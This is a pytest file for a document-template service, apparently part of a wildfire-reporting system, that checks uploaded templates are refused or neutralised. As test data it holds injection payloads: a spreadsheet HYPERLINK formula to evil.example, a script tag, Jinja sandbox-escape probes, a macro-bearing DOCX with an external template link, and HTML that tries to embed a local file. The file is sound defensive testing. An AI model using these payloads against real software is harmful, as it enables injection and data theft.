"""Templates of documents: what they may hold, what is refused, and what ours make."""

import io
import re
import zipfile

import pytest
from docx import Document as Docx
from openpyxl import load_workbook
from weasyprint import HTML

from sylvan.domain.codes import Invalid
from sylvan.domain.documents import DocumentKind, Format, clean, differences, plain
from sylvan.services.document_check import environment, faults
from sylvan.services.document_files import Filled, Reader, made
from sylvan.services.document_shape import fits, shape
from sylvan.services.document_templates import (
    LAYOUTS,
    MOST_BYTES,
    Templates,
    docx_source,
    merged_words,
    shipped,
)
from sylvan.web import catalogue
from tools import document_templates as tool

WORDS = merged_words(catalogue.merged("ru"))
KNOWN = frozenset(WORDS)
EVIL = '=HYPERLINK("http://evil.example","x")<script>alert(1)</script>\u202etxt'


def sample(wanted, text="Слово"):
    """Fields of a shape, each leaf a text."""
    if isinstance(wanted, dict):
        return {name: sample(inner, text) for name, inner in wanted.items()}
    if isinstance(wanted, list):
        return [sample(wanted[0], text), sample(wanted[0], text)]
    return text


def filled(kind, text="Слово", **more):
    fields = sample(shape(kind), text) | more
    return Filled(kind, clean(fields), Reader("ru", WORDS, "Asia/Yakutsk"))


def in_force(folder=None):
    return Templates(folder, KNOWN)


def own_folder(tmp_path, **files):
    folder = tmp_path / "documents"
    folder.mkdir()
    for name, body in files.items():
        (folder / name.replace("__", ".")).write_bytes(body)
    return tmp_path


def test_shipped_templates_are_what_the_tool_makes_of_the_layouts():
    for name, body in tool.made().items():
        kept = shipped(name).read_bytes()
        if name.endswith(".html"):
            assert kept == body, f"{name}: python -m tools.document_templates"
            continue
        with zipfile.ZipFile(io.BytesIO(kept)) as old, zipfile.ZipFile(io.BytesIO(body)) as new:
            assert old.namelist() == new.namelist()
            for part in old.namelist():
                assert old.read(part) == new.read(part), (
                    f"{name}: python -m tools.document_templates"
                )


def test_every_shipped_template_is_right_and_in_force():
    rows = in_force().check()
    assert len(rows) == len(DocumentKind) * len(Format)
    assert [one for one in rows if one["own"] or one["refused"]] == []


@pytest.mark.parametrize("kind", DocumentKind)
def test_every_field_of_a_document_stands_in_its_templates(kind):
    html = shipped(f"{kind.value}.html").read_text("utf-8")
    document = docx_source("x", shipped(f"{kind.value}.docx").read_bytes())
    for source in (html, document):
        named = set(re.findall(r"\{\{ (?:one\.)?([a-z_.0-9]+) \}\}", source))
        named |= set(re.findall(r"for one in ([a-z_.]+)", source))
        leaves = {
            name for name, inner in shape(kind).items() if not isinstance(inner, (dict, list))
        }
        assert leaves <= named


@pytest.mark.parametrize(
    ("source", "code", "name", "line"),
    [
        ("{{ number }}\n{{ fire.nmber }}", "template_unknown", "fire.nmber", 2),
        ("{{ w.no_such_word }}", "template_unknown", "w.no_such_word", 1),
        ("{% for one in times %}{{ one.whom }}{% endfor %}", "template_unknown", "one.whom", 1),
        ("{% for one in number %}{% endfor %}", "template_no_list", "number", 1),
        ("{{ times[0] }}", "template_forbidden", "getitem", 1),
        ("{{ ''.__class__ }}", "template_forbidden", "getattr", 1),
        ("{{ number.__class__ }}", "template_unknown", "number.__class__", 1),
        ("{{ range(9) }}", "template_forbidden", "call", 1),
        ("{% set x = 1 %}", "template_forbidden", "assign", 1),
        ("{% include 'x' %}", "template_forbidden", "include", 1),
        ("{% macro x() %}{% endmacro %}", "template_forbidden", "x", 1),
        ("{{ number|safe }}", "template_forbidden", "safe", 1),
        ("{{ number|attr('x') }}", "template_forbidden", "attr", 1),
        ("{{ 9 ** 9 }}", "template_forbidden", "pow", 1),
        ("\n\n{{ number ", "template_syntax", None, 3),
    ],
)
def test_what_no_template_may_hold_is_named_with_its_line(source, code, name, line):
    found = faults(source, shape(DocumentKind.ACT), KNOWN)
    assert found[0].code == f"document.{code}"
    assert name is None or found[0].name == name
    assert found[0].line == line


def test_what_templates_may_hold():
    source = (
        "{% if mark %}{{ mark|upper }}{% else %}{{ number }}{% endif %}"
        "{% for one in damage.terms %}{{ loop.index }} {{ one.rub }}{% endfor %}"
    )
    assert faults(source, shape(DocumentKind.ACT), KNOWN) == []


def test_own_template_counts_first(tmp_path):
    folder = own_folder(tmp_path, act__html=b"<p>{{ fire.number }}</p>")
    found, refused = in_force(folder).get(DocumentKind.ACT, Format.PDF)
    assert (found.own, refused) == (True, None)
    assert found.body == b"<p>{{ fire.number }}</p>"


def test_bad_template_is_refused_by_name_and_place_and_the_one_before_stays(tmp_path):
    folder = own_folder(tmp_path, act__html=b"<p>{{ fire.number }}</p>")
    templates = in_force(folder)
    good, _ = templates.get(DocumentKind.ACT, Format.PDF)
    (folder / "documents" / "act.html").write_bytes(b"<p>\n{{ fire.nmber }}</p>")
    found, refused = templates.get(DocumentKind.ACT, Format.PDF)
    assert found == good
    assert refused.code == "document.template_unknown"
    assert dict(refused.params) == {"file": "act.html", "line": 2, "name": "fire.nmber"}
    fresh, _ = in_force(folder).get(DocumentKind.ACT, Format.PDF)
    assert fresh.body == shipped("act.html").read_bytes(), "a new process takes the shipped one"


def word_file(text: str) -> bytes:
    document = Docx()
    document.add_paragraph("Шапка")
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_word_template_with_an_unknown_field_names_its_paragraph(tmp_path):
    folder = own_folder(tmp_path, closing__docx=word_file("{{ fire.nmber }}"))
    found, refused = in_force(folder).get(DocumentKind.CLOSING, Format.DOCX)
    assert not found.own
    assert refused.params["name"] == "fire.nmber"
    assert refused.params["line"] == 3  # what comes before the first paragraph is line 1


def with_part(body: bytes, name: str, text: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, text)
    return out.getvalue()


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"no zip at all", "template_unreadable"),
        (word_file("x")[:2000], "template_unreadable"),
        (b"x" * (MOST_BYTES + 1), "template_too_large"),
        (with_part(word_file("x"), "word/vbaProject.bin", b"x"), "template_forbidden"),
        (
            with_part(
                word_file("x"),
                "word/_rels/settings.xml.rels",
                b'<Relationship TargetMode="External" Target="http://evil.example/t.dotm"/>',
            ),
            "template_forbidden",
        ),
        (with_part(word_file("x"), "word/big.bin", bytes(50_000_000)), "template_too_large"),
    ],
)
def test_damaged_or_dangerous_word_files_are_refused(tmp_path, body, code):
    folder = own_folder(tmp_path, act__docx=body)
    found, refused = in_force(folder).get(DocumentKind.ACT, Format.DOCX)
    assert not found.own
    assert refused.code == f"document.{code}"


def test_own_layout_with_an_unknown_field_is_refused_by_line(tmp_path):
    body = shipped(LAYOUTS).read_text("utf-8").replace("fire.culprit", "fire.guilty")
    found, refused = in_force(own_folder(tmp_path, layouts__yaml=body.encode())).get(
        DocumentKind.ACT, Format.XLSX
    )
    assert not found.own
    assert refused.params["name"] == "fire.guilty"
    body = shipped(LAYOUTS).read_text("utf-8").replace("- facts:", "- fact:", 1)
    (tmp_path / "documents" / "layouts.yaml").write_text(body, "utf-8")
    _, refused = in_force(tmp_path).get(DocumentKind.ACT, Format.XLSX)
    assert refused.code == "document.layout"
    assert refused.params["line"]


@pytest.mark.parametrize("kind", DocumentKind)
def test_documents_open_again_and_hold_what_was_filled_in(kind):
    templates = in_force()
    word = made(Format.DOCX, templates.get(kind, Format.DOCX)[0], filled(kind, "Значение-7"))
    document = Docx(io.BytesIO(word))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert cells.count("Значение-7") > 10
    assert "{{" not in " ".join(cells)
    book = made(Format.XLSX, templates.get(kind, Format.XLSX)[0], filled(kind, "Значение-7"))
    sheet = load_workbook(io.BytesIO(book)).active
    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert values.count("Значение-7") > 10
    pdf = made(Format.PDF, templates.get(kind, Format.PDF)[0], filled(kind))
    assert pdf.startswith(b"%PDF-")


def test_what_strangers_wrote_is_neither_formula_nor_markup_nor_hidden():
    kind, templates = DocumentKind.CLOSING, in_force()
    evil = filled(kind, EVIL)
    book = load_workbook(
        io.BytesIO(made(Format.XLSX, templates.get(kind, Format.XLSX)[0], evil))
    ).active
    told = [cell for row in book.iter_rows() for cell in row if str(cell.value).startswith("=")]
    assert told
    assert {(cell.data_type, cell.quotePrefix) for cell in told} == {("s", True)}
    document = Docx(io.BytesIO(made(Format.DOCX, templates.get(kind, Format.DOCX)[0], evil)))
    texts = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert EVIL.replace("\u202e", "") in texts
    page = environment().from_string(shipped("closing.html").read_text("utf-8"))
    shown = page.render(evil.context)
    assert "<script>alert" not in shown
    assert "&lt;script&gt;" in shown
    assert "\u202e" not in shown


def test_files_of_this_machine_and_of_others_are_not_fetched(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("secret", "utf-8")
    body = f'<link rel="attachment" href="file://{secret}"><img src="http://evil.example/x.png">'
    folder = own_folder(tmp_path, act__html=body.encode() + b"<p>{{ number }}</p>")
    template, refused = in_force(folder).get(DocumentKind.ACT, Format.PDF)
    assert refused is None
    pdf = made(Format.PDF, template, filled(DocumentKind.ACT))
    assert pdf.startswith(b"%PDF-")
    assert b"EmbeddedFile" not in pdf
    with_it = HTML(string=body.partition("<img")[0]).write_pdf()
    assert b"EmbeddedFile" in with_it, "else this test could not fail"


def test_numbers_moments_and_what_is_not_known_are_written_for_readers():
    reader = Reader("ru", WORDS, "Asia/Yakutsk")
    told = reader.shown(
        {
            "area_ha": 12345.5,
            "fires": 3,
            "first_day_share": 0.625,
            "latitude": 62.03391,
            "at": "2026-07-01T15:30:00Z",
            "day": "2026-07-01",
            "total_rub": None,
            "kept": False,
        }
    )
    assert told == {
        "area_ha": "12\u00a0345,5",
        "fires": "3",
        "first_day_share": "62,5 %",
        "latitude": "62,03391",
        "at": "02.07.2026 00:30 (Asia/Yakutsk)",
        "day": "01.07.2026",
        "total_rub": "нет данных",
        "kept": "нет",
    }
    assert Reader("en", WORDS, "UTC").shown({"area_ha": 12345.5})["area_ha"] == "12,345.5"


def test_numbers_stay_numbers_in_a_workbook():
    fields = filled(DocumentKind.DAILY, registered=7, area_active_ha=12.5)
    template, _ = in_force().get(DocumentKind.DAILY, Format.XLSX)
    sheet = load_workbook(io.BytesIO(made(Format.XLSX, template, fields))).active
    told = {row[0]: row[1] for row in sheet.iter_rows(values_only=True, max_col=2) if row[0]}
    assert told[WORDS["registered"]] == 7
    assert told[WORDS["area_active_ha"]] == 12.5


def test_differences_are_told_by_path_and_key():
    before = {"a": 1, "rows": [{"key": "x", "n": 1}, {"key": "y", "n": 2}]}
    after = {"a": 1, "rows": [{"key": "w", "n": 9}, {"key": "x", "n": 1}, {"key": "y", "n": 3}]}
    assert differences(before, after) == [
        {"field": "rows[w].key", "before": None, "after": "w"},
        {"field": "rows[w].n", "before": None, "after": 9},
        {"field": "rows[y].n", "before": 2, "after": 3},
    ]
    assert differences(before, before) == []


def test_plain_texts_hold_nothing_invisible():
    assert plain("a\u202eb\u200bc\x00d\ne") == "abcd\ne"
    assert plain("и\u0306") == "й"


def test_shape_is_exact():
    assert fits({"a": 1, "b": [{"c": None}]}, {"a": None, "b": [{"c": None}]})
    assert not fits({"a": 1}, {"a": None, "b": [{}]})
    assert not fits({"a": {"b": 1}}, {"a": None})


def test_a_template_that_breaks_as_it_is_filled_is_told(tmp_path):
    folder = own_folder(tmp_path, act__html=b"{{ damage.terms|first }} {{ number|join(number) }}")
    template, refused = in_force(folder).get(DocumentKind.ACT, Format.PDF)
    assert refused is None
    broken = Filled(DocumentKind.ACT, {"number": 1}, Reader("ru", WORDS, "UTC"))
    with pytest.raises(Invalid, match="template_breaks"):
        made(Format.PDF, template, broken)
